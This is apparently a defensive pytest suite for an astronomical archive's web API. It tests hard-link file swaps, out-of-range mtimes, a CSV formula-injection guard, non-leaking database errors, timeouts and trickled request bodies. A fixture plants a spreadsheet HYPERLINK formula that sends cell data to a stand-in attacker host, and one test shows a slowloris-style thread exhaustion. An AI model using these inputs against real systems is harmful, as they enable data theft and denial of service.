"""The API against files someone with write access to a data mount changed after they were
archived, against values anyone can write into a header, and against a database that is
away or slow: what must not leak, and what must not be a 500."""

from __future__ import annotations

import csv
import io
import os
import shutil
import socket
import tempfile
from pathlib import Path

import falcon.testing
import pytest
import sqlalchemy as sa
import yaml

from api.app import create_app
from apiserver import NIGHT, OLD, ApiServer, build_archive
from archive_daemon import db
from fitsmaker import image

PUBLIC1 = f"{OLD}/cam/public1.fits"
MINE = f"{NIGHT}/cam/mine.fits"          # proprietary to P1 (alice)


def _extra(root):
    image(root / OLD / "cam" / "formula.fits", {"OBJECT": '=HYPERLINK("http://evil.example/?"&A1,"click")',
                                               "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "empty.fits", {"OBJECT": "soon empty", "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "late.fits", {"OBJECT": "soon late", "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "swap.fits", {"OBJECT": "soon swapped", "DATE-OBS": "2019-05-03T08:00:00"})


@pytest.fixture(scope="module")
def archive(cluster):
    # On tmpfs, which keeps any mtime (as btrfs, ZFS and NFS exports of them do).
    base = Path(tempfile.mkdtemp(prefix="archive-api-disk-", dir="/dev/shm" if os.path.isdir("/dev/shm") else None))
    built = build_archive(cluster, base, extra=_extra)
    built["client"] = falcon.testing.TestClient(create_app(built["config"], built["engine"]))
    yield built
    built["close"]()
    shutil.rmtree(base, ignore_errors=True)


def _id(archive, path):
    return archive["ids"][path]


def test_the_proprietary_file_is_hidden_to_begin_with(archive):
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, MINE)}/download")
    assert response.status_code == 404


def test_a_public_file_replaced_on_disk_by_a_proprietary_one_is_not_served_as_public(archive):
    """rename(2) a hard link of a proprietary file over an archived public one: until the
    daemon reads it again (never, while it is stopped or crash-looping), the API serves the
    new bytes under the old, public, decision. No symbolic link is involved."""
    root = archive["root"]
    secret = (root / MINE).read_bytes()
    os.link(root / MINE, root / OLD / "cam" / ".tmp")
    os.rename(root / OLD / "cam" / ".tmp", root / PUBLIC1)
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, PUBLIC1)}/download")
    # not the file the row's decision was made for (and a hard link besides)
    assert response.status_code == 404, response.text
    tar = archive["client"].simulate_post("/api/v1/download", json={"ids": [_id(archive, PUBLIC1)]})
    assert secret not in tar.content and b"NOT AVAILABLE" in tar.content


def test_a_file_dated_after_9999_on_disk_is_not_a_500(archive):
    late = archive["root"] / OLD / "cam" / "late.fits"
    os.utime(late, ns=(253402300800 * 10**9, 253402300800 * 10**9))
    if os.stat(late).st_mtime < 253402300800:
        pytest.skip("this filesystem clamps mtimes")
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, f'{OLD}/cam/late.fits')}/download")
    assert response.status_code == 404, response.text  # not the file archived: served once read anew


def test_a_suffix_range_of_a_file_emptied_on_disk_is_not_a_malformed_206(archive):
    empty = archive["root"] / OLD / "cam" / "empty.fits"
    os.truncate(empty, 0)
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, f'{OLD}/cam/empty.fits')}/download",
                                              headers={"Range": "bytes=-5"})
    assert response.status_code == 404, (response.status, response.headers.get("Content-Range"))


def test_csv_cells_cannot_start_a_spreadsheet_formula(archive):
    response = archive["client"].simulate_get("/api/v1/files", params={"format": "csv", "fields": "object",
                                                                      "object": "=hyperlink", "object_match": "prefix"})
    assert response.status_code == 200
    cells = [row[1] for row in csv.reader(io.StringIO(response.text))][1:]
    assert cells, response.text
    assert cells == ["'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'], cells


def test_a_database_outage_does_not_tell_anonymous_callers_where_the_database_is(archive):
    url = sa.engine.make_url(archive["url"]).set(host="127.0.0.1", port=1, password="wrong-password")
    engine = db.create_engine(url.render_as_string(hide_password=False))
    client = falcon.testing.TestClient(create_app(archive["config"], engine))
    for path in ("/api/v1/files", "/api/v1/health"):
        response = client.simulate_get(path)
        assert response.status_code == 503
        assert "127.0.0.1" not in response.text and "port" not in response.text, response.text
    engine.dispose()


def test_a_search_past_the_statement_timeout_is_a_503_that_says_so(archive, tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({**archive["settings"], "api": {**archive["settings"]["api"],
                                                                     "statement_timeout": 0.5}}))
    server = ApiServer(config, archive["url"], tmp_path / "gunicorn.log")
    blocker = archive["engine"].raw_connection()
    try:
        with blocker.cursor() as cursor:  # the search waits for this lock past its time
            cursor.execute("LOCK TABLE files IN ACCESS EXCLUSIVE MODE")
        response = server.get("/api/v1/files", params={"object": "m31"})
    finally:
        blocker.rollback()
        blocker.close()
        server.stop()
    assert response.status_code == 503, response.text
    assert "api.statement_timeout" in response.json()["description"]


def test_slow_request_bodies_do_not_take_every_thread(archive, tmp_path):
    """Tar requests whose bodies trickle in hold threads only as downloads do (a slot each,
    api.max_streams per worker): searches and health checks still find a thread."""
    server = ApiServer(archive["config_path"], archive["url"], tmp_path / "gunicorn.log")
    held = []
    try:
        for _ in range(2 * 8 + 2):  # every thread of both workers, and more
            connection = socket.create_connection(("127.0.0.1", server.port))
            connection.sendall(b"POST /api/v1/download HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                               b"Content-Length: 60000\r\n\r\n{\"ids\": [")
            held.append(connection)
        assert server.get("/api/v1/health", timeout=8).status_code == 200
    finally:
        for connection in held:
            connection.close()
        server.stop()
